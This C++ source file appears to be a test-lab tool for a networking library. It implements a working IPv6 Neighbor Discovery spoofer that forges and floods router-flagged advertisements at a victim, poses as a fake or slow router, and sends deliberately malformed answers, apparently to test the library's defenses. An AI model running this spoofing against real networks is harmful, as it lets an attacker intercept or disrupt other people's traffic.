// The lab's Neighbor Discovery attacker: forges advertisements on one link of its namespace.
//   tw_nd_attacker <link> advertise <claimed-ip6> <victim-ip6> <victim-mac> <count>
//       unsolicited advertisements "claimed-ip6 is at this link's MAC" with the Router and
//       Override flags, sent to the victim, as fast as possible
//   tw_nd_attacker <link> advertise-bare <claimed-ip6> <victim-ip6> <victim-mac> <count>
//       the same without the target link-layer address option: the Ethernet source names the MAC
//   tw_nd_attacker <link> answer <claimed-ip6> <count>
//   tw_nd_attacker <link> answer-after <delay-ms> <claimed-ip6> <count>
//       prints "ready" once listening, then answers <count> solicitations for claimed-ip6 (0:
//       until SIGTERM or SIGINT) with this link's MAC, as a router's kernel would; answer-after
//       waits <delay-ms> before each answer, as a slow router
//   tw_nd_attacker <link> respond <variant> <claimed-ip6> <count>
//       the same, with an answer that is wrong in one way: hop-limit (64: forwarded),
//       unsolicited (no Solicited flag), no-option (no target link-layer address option),
//       option-mismatch (the option names another MAC than the frame's source), other-target
//       (for another address)
//   tw_nd_attacker <link> count-ip6 <destination-ip6>
//       prints "ready", then counts the IPv6 packets for the destination that reach this host
//       (sent to its hardware address) until SIGTERM or SIGINT, and prints "counted N"
// Prints what it did on its last line.
#include "Core_SocketARP/NetworkStack.h"
#include "Core_SocketARP/linux/ArpPacket_linux.h"
#include "Core_SocketARP/linux/NdPacket_linux.h"

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>

namespace {

namespace nd = Core_SocketARP::nd;
using Core_SocketARP::Ipv6Bytes;

volatile std::sig_atomic_t stop_requested = 0;

void RequestStop(int) { stop_requested = 1; }

[[noreturn]] void Fail(const std::string& what) {
    std::fprintf(stderr, "tw_nd_attacker: %s\n", what.c_str());
    std::exit(1);
}

Ipv6Bytes ParseIp6(const char* text) {
    const auto address = Core_SocketARP::ParseIpv6(text);
    if (!address) {
        Fail(std::string("not an IPv6 address: ") + text);
    }
    return *address;
}

nd::MacAddress ParseMac(const char* text) {
    nd::MacAddress mac{};
    unsigned parts[6] = {};
    if (std::sscanf(text, "%x:%x:%x:%x:%x:%x", &parts[0], &parts[1], &parts[2], &parts[3],
                    &parts[4], &parts[5]) != 6) {
        Fail(std::string("not a MAC address: ") + text);
    }
    for (std::size_t i = 0; i < mac.size(); ++i) {
        mac[i] = static_cast<std::uint8_t>(parts[i]);
    }
    return mac;
}

long ParseCount(const char* text) {
    char* end = nullptr;
    const long count = std::strtol(text, &end, 10);
    if (end == text || *end != '\0' || count < 0) {
        Fail(std::string("not a count: ") + text);
    }
    return count;
}

nd::MacAddress LinkMac(const std::string& name) {
    const int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        Fail("socket: " + std::string(std::strerror(errno)));
    }
    ifreq request{};
    std::strncpy(request.ifr_name, name.c_str(), IFNAMSIZ - 1);
    const int result = ::ioctl(fd, SIOCGIFHWADDR, &request);
    const int error = errno;
    ::close(fd);
    if (result != 0) {
        Fail("SIOCGIFHWADDR " + name + ": " + std::strerror(error));
    }
    nd::MacAddress mac{};
    std::memcpy(mac.data(), request.ifr_hwaddr.sa_data, mac.size());
    return mac;
}

// The advertisement that claims `claimed` is at `mac`, to `destination`.
nd::Message Advertisement(const Ipv6Bytes& claimed, const Ipv6Bytes& destination,
                          const nd::MacAddress& mac, std::uint8_t flags) {
    nd::Message message;
    message.type = nd::type_advertisement;
    message.source = claimed;
    message.destination = destination;
    message.flags = flags;
    message.target = claimed;
    message.targetLinkAddresses = {mac};
    return message;
}

// The answer to a solicitation, wrong in the way `variant` says ("" for none).
nd::Message AnswerTo(const nd::Received& solicitation, const Ipv6Bytes& claimed,
                     const nd::MacAddress& mac, const std::string& variant) {
    nd::Message answer = Advertisement(claimed, solicitation.message.source, mac,
                                       nd::flag_router | nd::flag_solicited | nd::flag_override);
    if (variant == "hop-limit") {
        answer.hopLimit = 64;
    } else if (variant == "unsolicited") {
        answer.flags = nd::flag_router | nd::flag_override;
    } else if (variant == "no-option") {
        answer.targetLinkAddresses.clear();
    } else if (variant == "option-mismatch") {
        answer.targetLinkAddresses = {{0x02, 0x00, 0x00, 0x00, 0x00, 0x98}};
    } else if (variant == "other-target") {
        answer.target[15] ^= 0x01;
    } else if (!variant.empty()) {
        Fail("unknown variant " + variant);
    }
    return answer;
}

void InstallStop() {
    std::signal(SIGTERM, RequestStop);
    std::signal(SIGINT, RequestStop);
}

void Ready() {
    std::printf("ready\n");
    std::fflush(stdout);
}

int CountIp6(int index, const Ipv6Bytes& destination) {
    const int fd = ::socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IPV6));
    if (fd < 0) {
        Fail("packet socket: " + std::string(std::strerror(errno)));
    }
    sockaddr_ll at{};
    at.sll_family = AF_PACKET;
    at.sll_protocol = htons(ETH_P_IPV6);
    at.sll_ifindex = index;
    if (::bind(fd, reinterpret_cast<const sockaddr*>(&at), sizeof at) != 0) {
        Fail("bind: " + std::string(std::strerror(errno)));
    }
    const timeval tick{0, 100000};
    ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tick, sizeof tick);
    InstallStop();
    Ready();
    long counted = 0;
    std::uint8_t packet[2048];
    while (stop_requested == 0) {
        sockaddr_ll from{};
        socklen_t length = sizeof from;
        const ssize_t size =
            ::recvfrom(fd, packet, sizeof packet, 0, reinterpret_cast<sockaddr*>(&from), &length);
        if (size >= 40 && from.sll_pkttype == PACKET_HOST &&
            std::equal(destination.begin(), destination.end(), packet + 24)) {
            ++counted;
        }
    }
    std::printf("counted %ld\n", counted);
    return 0;
}

} // namespace

int main(int argc, char** argv) {
    if (argc < 4) {
        Fail("usage: see the comment at the top of NdAttacker.cpp");
    }
    const std::string link = argv[1];
    const std::string mode = argv[2];
    const int index = static_cast<int>(if_nametoindex(link.c_str()));
    if (index == 0) {
        Fail("no link " + link);
    }
    const nd::MacAddress ownMac = LinkMac(link);
    try {
        if ((mode == "advertise" || mode == "advertise-bare") && argc == 7) {
            const Ipv6Bytes claimed = ParseIp6(argv[3]);
            const Ipv6Bytes victim = ParseIp6(argv[4]);
            const nd::MacAddress victimMac = ParseMac(argv[5]);
            const long count = ParseCount(argv[6]);
            nd::NdSocket socket(index, Core_SocketARP::arp::DropAllFilter());
            nd::Message advertisement =
                Advertisement(claimed, victim, ownMac, nd::flag_router | nd::flag_override);
            if (mode == "advertise-bare") {
                advertisement.targetLinkAddresses.clear();
            }
            const auto packet = nd::Encode(advertisement);
            for (long i = 0; i < count; ++i) {
                socket.Send(packet, index, victimMac);
            }
            std::printf("sent %ld advertisements\n", count);
            return 0;
        }
        if (mode == "count-ip6" && argc == 4) {
            return CountIp6(index, ParseIp6(argv[3]));
        }
        const bool delayed = mode == "answer-after";
        const bool crafted = mode == "respond";
        const int first = delayed || crafted ? 4 : 3; // the claimed address's argument
        if ((mode == "answer" || delayed || crafted) && argc == first + 2) {
            const auto delay = std::chrono::milliseconds(delayed ? ParseCount(argv[3]) : 0);
            const std::string variant = crafted ? argv[3] : "";
            const Ipv6Bytes claimed = ParseIp6(argv[first]);
            const long count = ParseCount(argv[first + 1]);
            InstallStop();
            nd::NdSocket socket(index, nd::SolicitationFilter(claimed));
            Ready();
            long answered = 0;
            while (stop_requested == 0 && (count == 0 || answered < count)) {
                const auto received = socket.Receive(std::chrono::steady_clock::now() +
                                                     std::chrono::milliseconds(100));
                if (!received || received->message.type != nd::type_solicitation ||
                    received->message.sourceLinkAddresses.empty()) {
                    continue; // a duplicate address detection's probe: nobody to answer to
                }
                std::this_thread::sleep_for(delay);
                socket.Send(nd::Encode(AnswerTo(*received, claimed, ownMac, variant)), index,
                            received->message.sourceLinkAddresses.front());
                ++answered;
            }
            std::printf("answered %ld\n", answered);
            return 0;
        }
    } catch (Core_SocketARP::SystemErrorCode code) {
        Fail("system error " + std::to_string(code) + ": " + std::strerror(static_cast<int>(code)));
    }
    Fail("usage: see the comment at the top of NdAttacker.cpp");
}
